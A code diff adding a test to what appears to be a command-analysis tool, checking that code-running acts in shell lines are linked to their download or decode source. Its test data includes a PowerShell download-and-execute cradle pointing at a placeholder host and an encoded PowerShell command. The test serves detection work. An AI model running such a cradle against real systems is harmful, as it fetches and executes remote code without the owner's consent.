@@ -85,6 +85,21 @@ def test_what_runs_something_from_an_address_downloads_it() -> None:
     assert runs.inputs[0].target == "http://a.invalid/a.hta"
 
 
+@pytest.mark.parametrize(
+    ("line", "source"),
+    [
+        (
+            "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/a')\"",
+            Act.DOWNLOADS,
+        ),
+        ("powershell.exe -w 1 -enc ZQBjAGgAbwAgADEAMgAzAA==", Act.DECODES),
+    ],
+)
+def test_code_on_the_line_is_told_with_its_source(line: str, source: Act) -> None:
+    runs = [one for one in facts_of_command(split(line), Shell.CMD) if one.act is Act.RUNS_CODE]
+    assert [[fed.act for fed in one.inputs] for one in runs] == [[source]]
+
+
 def test_targets_keep_their_letters() -> None:
     (made,) = [
         one
